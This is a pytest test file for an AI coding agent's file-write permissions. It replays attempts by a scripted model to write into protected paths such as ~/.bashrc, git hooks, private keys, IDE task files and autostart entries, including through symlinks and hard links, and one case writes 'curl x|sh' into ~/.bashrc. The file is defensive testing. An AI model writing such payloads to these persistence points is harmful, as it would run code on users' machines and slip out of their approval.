"""Protected paths and grant scope, replayed as attacks end to end: the scripted model
writes, the scripted editor answers, and every protected target is asked (with no session
grant offered) in every mode, with nothing written when the editor denies."""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path

import anyio
import pytest

from acp_v1 import models as m
from tests.backend.harness import FS_CAPS, NO_CAPS, STEP_S, Rig, rig, tool_call
from tests.backend.test_backend_edits import edit_turn, final_update

pytestmark = pytest.mark.anyio


def option_ids(r: Rig, index: int = -1) -> set[str]:
    return {option.option_id for option in r.editor.policy.requests[index].options}


async def test_a_session_grant_covers_workspace_edits_only(tmp_path: Path, user_home: Path) -> None:
    outside = user_home / "other-project"
    outside.mkdir()
    async with rig(tmp_path) as r:
        sid = await r.new()
        r.editor.policy.first = ["allow_session"]
        r.editor.policy.answer = "deny"
        await edit_turn(r, sid, tool_call("w1", "write_file", path="a.txt", content="1\n"))
        assert (r.workspace / "a.txt").read_text() == "1\n"
        await edit_turn(r, sid, tool_call("w2", "write_file", path="b.txt", content="2\n"))
        assert len(r.editor.policy.requests) == 1  # the grant covers the workspace
        await edit_turn(
            r, sid, tool_call("w3", "write_file", path="~/.bashrc", content="curl x|sh\n")
        )
        await edit_turn(
            r, sid, tool_call("w4", "write_file", path=str(outside / "x"), content="3\n")
        )
        assert len(r.editor.policy.requests) == 3
        assert "allow_session" not in option_ids(r, 1)
        assert "~/.bashrc" in (r.editor.policy.requests[1].tool_call.title or "")
        assert not (user_home / ".bashrc").exists()
        assert not (outside / "x").exists()
        assert final_update(r, sid, "w3").status == "failed"


async def test_a_symlink_into_the_hooks_is_asked_as_its_target(tmp_path: Path) -> None:
    async with rig(tmp_path) as r:
        hooks = r.workspace / ".git" / "hooks"
        hooks.mkdir(parents=True)
        (r.workspace / "scripts").symlink_to(".git/hooks")
        sid = await r.new()
        await r.set_mode(sid, "dont_ask")
        r.editor.policy.answer = "deny"
        await edit_turn(
            r, sid, tool_call("w1", "write_file", path="scripts/pre-commit", content="evil\n")
        )
        (request,) = r.editor.policy.requests
        title = request.tool_call.title or ""
        assert str(hooks / "pre-commit") in title
        assert "linked" in title and "protected" in title
        assert "allow_session" not in option_ids(r)
        assert not (hooks / "pre-commit").exists()


async def test_a_hard_link_is_asked(tmp_path: Path) -> None:
    async with rig(tmp_path) as r:
        (r.workspace / ".git").mkdir()
        config = r.workspace / ".git" / "config"
        config.write_text("[core]\n")
        os.link(config, r.workspace / "build.cfg")
        sid = await r.new()
        await r.set_mode(sid, "accept_edits")
        r.editor.policy.answer = "deny"
        await edit_turn(
            r, sid, tool_call("w1", "write_file", path="build.cfg", content="[core]\n x=1\n")
        )
        (request,) = r.editor.policy.requests
        assert "hard-linked" in (request.tool_call.title or "")
        assert "allow_session" not in option_ids(r)
        assert config.read_text() == "[core]\n"


def _bare_repo(root: Path) -> str:
    bare = root / "mirror.git"
    for sub in ("objects", "refs", "hooks"):
        (bare / sub).mkdir(parents=True)
    (bare / "HEAD").write_text("ref: refs/heads/main\n")
    return "mirror.git/hooks/post-receive"


def _hooks_path(root: Path) -> str:
    (root / ".git").mkdir()
    (root / ".git" / "config").write_text('[core]\n\thooksPath = "tools/hooks"\n')
    return "tools/hooks/pre-commit"


def _worktree(root: Path) -> str:
    main = root.parent / "main-repo.git"
    (main / "worktrees" / "w").mkdir(parents=True)
    (root / ".git").write_text(f"gitdir: {main / 'worktrees' / 'w'}\n")
    return str(main / "worktrees" / "w" / "config")


PROTECTED: dict[str, Callable[[Path], str]] = {
    "config home": lambda root: str(root.parent / "home" / "config.toml"),
    ".envrc.local": lambda root: ".envrc.local",
    ".envs dir": lambda root: ".envs/prod.sh",
    "bare repository hooks": _bare_repo,
    "core.hooksPath": _hooks_path,
    "worktree gitdir": _worktree,
    ".husky": lambda root: ".husky/pre-commit",
    ".vscode": lambda root: ".vscode/tasks.json",
    ".idea": lambda root: ".idea/workspace.xml",
    "private key": lambda root: "deploy/id_ed25519",
    "bashrc": lambda root: "~/.bashrc",
    "zshrc": lambda root: "~/.ZSHRC",
    "profile": lambda root: "~/.profile",
    "fish": lambda root: "~/.config/fish/config.fish",
    "autostart": lambda root: "~/.config/autostart/x.desktop",
    "systemd user": lambda root: "~/.config/systemd/user/x.service",
}


@pytest.mark.parametrize("mode", ["accept_edits", "dont_ask", "full_access"])
@pytest.mark.parametrize("case", list(PROTECTED))
async def test_every_protected_class_is_asked_in_every_mode(
    tmp_path: Path, user_home: Path, mode: str, case: str
) -> None:
    async with rig(tmp_path) as r:
        path = PROTECTED[case](r.workspace)
        target = Path(os.path.expanduser(path))
        target = target if target.is_absolute() else r.workspace / target
        before = target.read_text() if target.exists() else None
        sid = await r.new()
        await r.set_mode(sid, mode)
        r.editor.policy.answer = "deny"
        await edit_turn(r, sid, tool_call("w1", "write_file", path=path, content="evil\n"))
        (request,) = r.editor.policy.requests
        assert "protected" in (request.tool_call.title or ""), request.tool_call.title
        assert "allow_session" not in option_ids(r)
        assert (target.read_text() if target.exists() else None) == before


async def _move(r: Rig, sid: str, how: str, cwd: Path) -> tuple[str, str]:
    """Open ``sid`` in ``cwd`` by ``how``; returns the session id and its mode there."""
    with anyio.fail_after(STEP_S):
        if how == "load":
            loaded = await r.peer.session_load(
                m.LoadSessionRequest(session_id=sid, cwd=str(cwd), mcp_servers=[])
            )
            return sid, loaded.modes.current_mode_id if loaded.modes else "?"
        if how == "resume":
            resumed = await r.peer.session_resume(
                m.ResumeSessionRequest(session_id=sid, cwd=str(cwd))
            )
            return sid, resumed.modes.current_mode_id if resumed.modes else "?"
        forked = await r.peer.session_fork(
            m.ForkSessionRequest(session_id=sid, cwd=str(cwd), mcp_servers=[])
        )
        return forked.session_id, forked.modes.current_mode_id if forked.modes else "?"


MOVES = [
    (mode, how)
    for mode in ("default", "accept_edits", "dont_ask", "full_access")
    for how in ("load", "resume", "fork")
    if (mode, how) != ("default", "fork")  # a fork has a memory of its own anyway
]


@pytest.mark.parametrize(("mode", "how"), MOVES)
async def test_no_grant_or_mode_follows_a_session_into_another_cwd(
    tmp_path: Path, user_home: Path, how: str, mode: str
) -> None:
    """A session grant (and a permissive mode) given in one workspace does not approve
    edits in the cwd the session is opened in next."""
    other = tmp_path / "other-project"
    other.mkdir()
    async with rig(tmp_path) as r:
        sid = await r.new()
        r.editor.policy.first = ["allow_session"]
        await edit_turn(r, sid, tool_call("w1", "write_file", path="a.txt", content="1\n"))
        await r.set_mode(sid, mode)
        moved, current = await _move(r, sid, how, other)
        assert current == "default"
        r.editor.policy.answer = "deny"
        await edit_turn(r, moved, tool_call("w2", "write_file", path="b.txt", content="2\n"))
        assert len(r.editor.policy.requests) == 2
        assert not (other / "b.txt").exists()
        back, _ = await _move(r, moved, "load", r.workspace)
        await edit_turn(r, back, tool_call("w3", "write_file", path="c.txt", content="3\n"))
        assert len(r.editor.policy.requests) == 3  # nothing came back with it either


def _plant_at_file(work: Path, victim: Path) -> None:
    (work / "new.txt").symlink_to(victim)


def _plant_at_parent(work: Path, victim: Path) -> None:
    (work / "sub").rename(work / "sub.old")
    (work / "sub").symlink_to(victim.parent)


@pytest.mark.parametrize("caps", [NO_CAPS, FS_CAPS], ids=["disk", "editor"])
@pytest.mark.parametrize("plant", [_plant_at_file, _plant_at_parent], ids=["file", "parent"])
async def test_a_link_planted_while_the_approval_is_open_is_not_followed(
    tmp_path: Path,
    user_home: Path,
    caps: m.ClientCapabilities,
    plant: Callable[[Path, Path], None],
) -> None:
    hooks = user_home / "elsewhere" / "hooks"
    hooks.mkdir(parents=True)
    victim = hooks / ("new.txt" if plant is _plant_at_parent else "pre-commit")
    async with rig(tmp_path, caps=caps) as r:
        (r.workspace / "sub").mkdir()
        path = "sub/new.txt" if plant is _plant_at_parent else "new.txt"
        sid = await r.new()
        hold = anyio.Event()
        r.editor.policy.hold = hold
        async with anyio.create_task_group() as tg:
            tg.start_soon(
                edit_turn, r, sid, tool_call("w1", "write_file", path=path, content="evil\n")
            )
            await r.editor.wait_for(lambda: bool(r.editor.policy.requests))
            plant(r.workspace, victim)
            hold.set()
        assert not victim.exists()
        assert r.editor.writes == []
        end = final_update(r, sid, "w1")
        assert end.status == "failed"
